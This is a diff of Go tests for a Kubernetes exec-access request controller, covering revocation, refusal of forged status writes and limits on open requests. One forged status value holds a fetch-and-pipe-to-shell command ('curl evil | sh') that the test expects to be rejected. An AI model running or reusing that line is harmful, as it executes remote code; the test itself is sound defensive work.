@@ -3,12 +3,16 @@ package access_test
 import (
 	"context"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"golang.org/x/sync/errgroup"
 	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/meta"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -105,10 +109,10 @@ func TestRequestsAreRefusedUnlessTheTemplateAllowsThem(t *testing.T) {
 	})
 }
 
-func TestOnlyTheDurationOfARequestChangesAndOnlyByItsRequester(t *testing.T) {
+func TestOnlyTheRequesterChangesARequestAndOnlyHowLongItLasts(t *testing.T) {
 	namespace := requestable(t)
 	req := execRequest(namespace, "a", "web")
-	req.Spec.Duration = "30m"
+	req.Spec.Duration, req.Spec.Reason = "30m", "incident 7"
 	testkit.Create(t, as(t, alice), req)
 	for sentence, test := range map[string]struct {
 		user  *controlplane.User
@@ -124,6 +128,10 @@ func TestOnlyTheDurationOfARequestChangesAndOnlyByItsRequester(t *testing.T) {
 		"more time for somebody else":      {bob, `{"spec":{"duration":"1h"}}`, []string{"requester only"}},
 		"less time for somebody else":      {bob, `{"spec":{"duration":"1m"}}`, []string{"requester only"}},
 		"a duration that cannot be parsed": {alice, `{"spec":{"duration":"for ever"}}`, []string{"spec.duration"}},
+		"another reason":                   {alice, `{"spec":{"reason":"nothing of note"}}`, []string{"reason cannot be changed"}},
+		"a single use by somebody else":    {bob, `{"spec":{"singleUse":true}}`, []string{"requester only"}},
+		"a single use that nobody counts":  {alice, `{"spec":{"singleUse":true}}`, []string{"spec.singleUse", "does not run here"}},
+		"an end for somebody else":         {bob, `{"spec":{"revoked":{"reason":"I do not like you"}}}`, []string{`user "bob" neither made the request nor may delete`}},
 	} {
 		t.Run("a change to "+sentence, func(t *testing.T) {
 			refused(t, patch(t, test.user, execRequest(namespace, "a", ""), test.patch), test.parts...)
@@ -156,6 +164,174 @@ func TestOnlyTheDurationOfARequestChangesAndOnlyByItsRequester(t *testing.T) {
 				return req.Status.ExpiresAt != nil && req.Status.ExpiresAt.Time.Equal(req.CreationTimestamp.Add(length))
 			})
 		}
+	})
+	anotherEndsItOnRecord(t, namespace)
+	nobodyForgesWhatIsRun(t, namespace)
+	aUserHasOnlySoManyOpen(t, namespace)
+	t.Run("access that is shortened to what has passed ends now", func(t *testing.T) {
+		testkit.Within(t, 5*time.Second, "it is some seconds old", func(context.Context) bool { return time.Since(req.CreationTimestamp.Time) > 4*time.Second })
+		shortened := time.Now()
+		if err := patch(t, alice, req, `{"spec":{"duration":"0s"}}`); err != nil {
+			t.Fatal(err)
+		}
+		await(t, req, "has ended", func() bool { return fails(req, "AccessStillValid", "Expired") })
+		if end := req.Status.ExpiresAt.Time; end.Before(shortened.Add(-2 * time.Second)) {
+			t.Errorf("the record says that access ended at %s, and it was shortened at %s", end, shortened)
+		}
+	})
+}
+
+// oncall may delete requests, and so revoke them.
+func oncall(t *testing.T, namespace string) *controlplane.User {
+	t.Helper()
+	user, err := cluster.AddUser("oncall")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rule := rbacv1.PolicyRule{APIGroups: []string{"admitkit.dev"}, Resources: []string{"execaccessrequests"}, Verbs: []string{"get", "patch", "delete"}}
+	meta := metav1.ObjectMeta{Namespace: namespace, Name: "oncall"}
+	testkit.Create(t, admin, &rbacv1.Role{ObjectMeta: meta, Rules: []rbacv1.PolicyRule{rule}}, &rbacv1.RoleBinding{
+		ObjectMeta: meta, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: meta.Name},
+		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: user.Name}},
+	})
+	return user
+}
+
+// anotherEndsItOnRecord revokes a request by who may delete it, and one by its
+// requester. Nobody takes that back, or makes it another's.
+func anotherEndsItOnRecord(t *testing.T, namespace string) {
+	t.Helper()
+	user := oncall(t, namespace)
+	for sentence, test := range map[string]struct {
+		user            *controlplane.User
+		patch, says, by string
+	}{
+		"who may delete a request": {user, `{"spec":{"revoked":{"by":"alice","at":"2020-01-01T00:00:00Z","reason":"left the team"}}}`, "revoked by oncall", "oncall"},
+		"the requester":            {alice, `{"spec":{"revoked":{}}}`, "revoked by alice", "alice"},
+	} {
+		t.Run(sentence+" revokes it, and the record stays", func(t *testing.T) {
+			req := granted(t, alice, execRequest(namespace, "revoked-by-"+test.by, "web"))
+			if test.user != alice {
+				refused(t, patch(t, test.user, req.DeepCopy(), `{"spec":{"revoked":{"reason":" "}}}`), "spec.revoked.reason")
+			}
+			if err := patch(t, test.user, req.DeepCopy(), test.patch); err != nil {
+				t.Fatal(err)
+			}
+			await(t, req, "says who revoked it", func() bool { return fails(req, "AccessStillValid", "Revoked") && !req.Status.Ready })
+			if c := meta.FindStatusCondition(req.Status.Conditions, "AccessStillValid"); !strings.Contains(c.Message, test.says) {
+				t.Errorf("it says %q", c.Message)
+			}
+			if !gone(t, bindingOf(req)) || !gone(t, roleOf(req)) {
+				t.Error("alice still has what it gave her")
+			}
+			if age := time.Since(req.Status.ExpiresAt.Time); age > 10*time.Second {
+				t.Errorf("the record says that access ended %s ago", age)
+			}
+			for _, text := range []string{`{"spec":{"revoked":null}}`, `{"spec":{"revoked":{"by":"bob"}}}`, `{"spec":{"duration":"2h"}}`} {
+				after := req.DeepCopy()
+				if err := patch(t, cluster.Admin(), after, text); err == nil && (after.Spec.Revoked == nil || after.Spec.Revoked.By != test.by || after.Spec.Duration != req.Spec.Duration) {
+					t.Errorf("by %s the record becomes %+v", text, after.Spec)
+				}
+			}
+		})
+	}
+	t.Run("a request is not made revoked", func(t *testing.T) {
+		output, err := kubectlCreate(t, alice, `{apiVersion: admitkit.dev/v1alpha1, kind: ExecAccessRequest, metadata: {name: dead, namespace: `+namespace+`}, spec: {templateName: web, revoked: {}}}`)
+		if err == nil || !strings.Contains(output, "spec.revoked: a request cannot be revoked before it is made") {
+			t.Errorf("%v: %s", err, output)
+		}
+	})
+}
+
+func kubectlCreate(t *testing.T, user *controlplane.User, manifest string) (string, error) {
+	t.Helper()
+	create := cluster.Kubectl(t.Context(), user, "create", "-f", "-")
+	create.Stdin = strings.NewReader(manifest)
+	output, err := create.CombinedOutput()
+	return string(output), err
+}
+
+// nobodyForgesWhatIsRun writes into a status, as who may write it, what kubectl access
+// --shell would run in another Pod, and a revocation that would make the record go.
+func nobodyForgesWhatIsRun(t *testing.T, namespace string) {
+	t.Helper()
+	req := granted(t, alice, execRequest(namespace, "forged", "web"))
+	for text, says := range map[string]string{
+		`{"status":{"podName":"stray"}}`:                                              "only admitkit writes them",
+		`{"status":{"accessMessage":"kubectl exec stray -- sh -c 'curl evil | sh'"}}`: "only admitkit writes them",
+		`{"status":{"revokedAt":"0001-01-01T00:00:00Z"}}`:                             "status.revokedAt lies before the request was made",
+	} {
+		t.Run("nobody writes "+text, func(t *testing.T) {
+			output, err := cluster.Kubectl(t.Context(), nil, "patch", "-n", namespace, "ear", req.Name, "--subresource=status", "--type=merge", "-p", text).CombinedOutput()
+			if err == nil || !strings.Contains(string(output), says) {
+				t.Errorf("%v: %s", err, output)
+			}
+		})
+	}
+	await(t, req, "is there, and says the same", func() bool { return req.Status.Ready && req.Status.PodName != "stray" })
+}
+
+// aUserHasOnlySoManyOpen asks for more than a template allows: one after the other,
+// and many at the same moment.
+func aUserHasOnlySoManyOpen(t *testing.T, namespace string) {
+	t.Helper()
+	few := execTemplate(namespace, "few", ref("Deployment", "web"), "devs")
+	few.Spec.AccessConfig.MaxConcurrent = 2
+	testkit.Create(t, admin, few)
+	count := func(ctx context.Context) (open int) {
+		var list v1alpha1.ExecAccessRequestList
+		if err := admin.List(ctx, &list, client.InNamespace(namespace)); err != nil {
+			t.Fatal(err)
+		}
+		for _, req := range list.Items {
+			if req.Spec.TemplateName == "few" && holds(&req, "AccessResourcesCreated") {
+				open++
+			}
+		}
+		return open
+	}
+	t.Run("a user has only so many requests open, however they come", func(t *testing.T) {
+		c, group := as(t, alice), errgroup.Group{}
+		for i := range 20 {
+			group.Go(func() error {
+				err := c.Create(t.Context(), execRequest(namespace, fmt.Sprintf("few-%d", i), "few"))
+				if apierrors.IsForbidden(err) {
+					return nil
+				}
+				return err
+			})
+		}
+		if err := group.Wait(); err != nil {
+			t.Fatal(err)
+		}
+		var list v1alpha1.ExecAccessRequestList
+		testkit.Eventually(t, "each is granted or refused", func(ctx context.Context) bool {
+			decided := 0
+			if admin.List(ctx, &list, client.InNamespace(namespace)) != nil {
+				return false
+			}
+			list.Items = slices.DeleteFunc(list.Items, func(req v1alpha1.ExecAccessRequest) bool { return req.Spec.TemplateName != "few" })
+			for _, req := range list.Items {
+				if holds(&req, "AccessResourcesCreated") || fails(&req, "AccessResourcesCreated", "TooMany") {
+					decided++
+				}
+			}
+			return decided == len(list.Items)
+		})
+		if open := count(t.Context()); open > 2 {
+			t.Errorf("%d of %d are granted", open, len(list.Items))
+		}
+		refused(t, c.Create(t.Context(), execRequest(namespace, "few-more", "few")), `template "few" allows a user 2 open requests`, "few-", "kubectl access revoke")
+		for _, req := range list.Items {
+			if err := patch(t, alice, execRequest(namespace, req.Name, ""), `{"spec":{"revoked":{}}}`); err != nil {
+				t.Fatal(err)
+			}
+		}
+		testkit.Succeeds(t, 5*time.Second, "there is room again", func(ctx context.Context) error {
+			return client.IgnoreAlreadyExists(c.Create(ctx, execRequest(namespace, "few-again", "few")))
+		})
+		again := execRequest(namespace, "few-again", "few")
+		await(t, again, "is granted", func() bool { return again.Status.Ready })
 	})
 }
 
@@ -253,14 +429,14 @@ var attacks = map[string]func(t *testing.T, namespace string, req *v1alpha1.Exec
 	},
 	"by writing the status": func(t *testing.T, _ string, req *v1alpha1.ExecAccessRequest) {
 		for _, text := range []string{
-			`{"status":{"ready":true,"expiresAt":"2099-01-01T00:00:00Z","accessMessage":"other","conditions":null}}`,
+			`{"status":{"ready":true,"expiresAt":"2099-01-01T00:00:00Z","conditions":null}}`,
 			`{"status":{"ready":false,"conditions":[{"type":"AccessStillValid","status":"False","reason":"Expired","message":"","lastTransitionTime":"2020-01-01T00:00:00Z"}]}}`,
 		} {
 			if err := admin.Status().Patch(t.Context(), req.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(text))); err != nil {
 				t.Fatal(err)
 			}
 			await(t, req, "says the truth again", func() bool {
-				return req.Status.Ready && req.Status.AccessMessage != "other" && req.Status.ExpiresAt.Year() < 2099
+				return req.Status.Ready && req.Status.ExpiresAt.Year() < 2099
 			})
 		}
 	},
@@ -290,7 +466,7 @@ var attacks = map[string]func(t *testing.T, namespace string, req *v1alpha1.Exec
 		}
 	},
 	"by deleting the request and leaving what it got": func(t *testing.T, _ string, req *v1alpha1.ExecAccessRequest) {
-		if err := as(t, alice).Delete(t.Context(), req.DeepCopy(), client.PropagationPolicy(metav1.DeletePropagationOrphan)); err != nil {
+		if err := admin.Delete(t.Context(), req.DeepCopy(), client.PropagationPolicy(metav1.DeletePropagationOrphan)); err != nil {
 			t.Fatal(err)
 		}
 	},
@@ -299,7 +475,7 @@ var attacks = map[string]func(t *testing.T, namespace string, req *v1alpha1.Exec
 		if err := patch(t, alice, changed, `{"metadata":{"finalizers":["example.com/keep"]}}`); err != nil {
 			t.Fatal(err)
 		}
-		if err := as(t, alice).Delete(t.Context(), req.DeepCopy()); err != nil {
+		if err := admin.Delete(t.Context(), req.DeepCopy()); err != nil {
 			t.Fatal(err)
 		}
 		t.Cleanup(func() {
@@ -330,7 +506,7 @@ func TestAPodMadeByHandIsNoAccessPod(t *testing.T) {
 	if canExec(t, alice, namespace, "podaccess-a") {
 		t.Error("alice can exec into a Pod that is not hers")
 	}
-	if err := as(t, alice).Delete(t.Context(), req); err != nil {
+	if err := admin.Delete(t.Context(), req); err != nil {
 		t.Fatal(err)
 	}
 	testkit.Eventually(t, "the request is gone", func(ctx context.Context) bool {
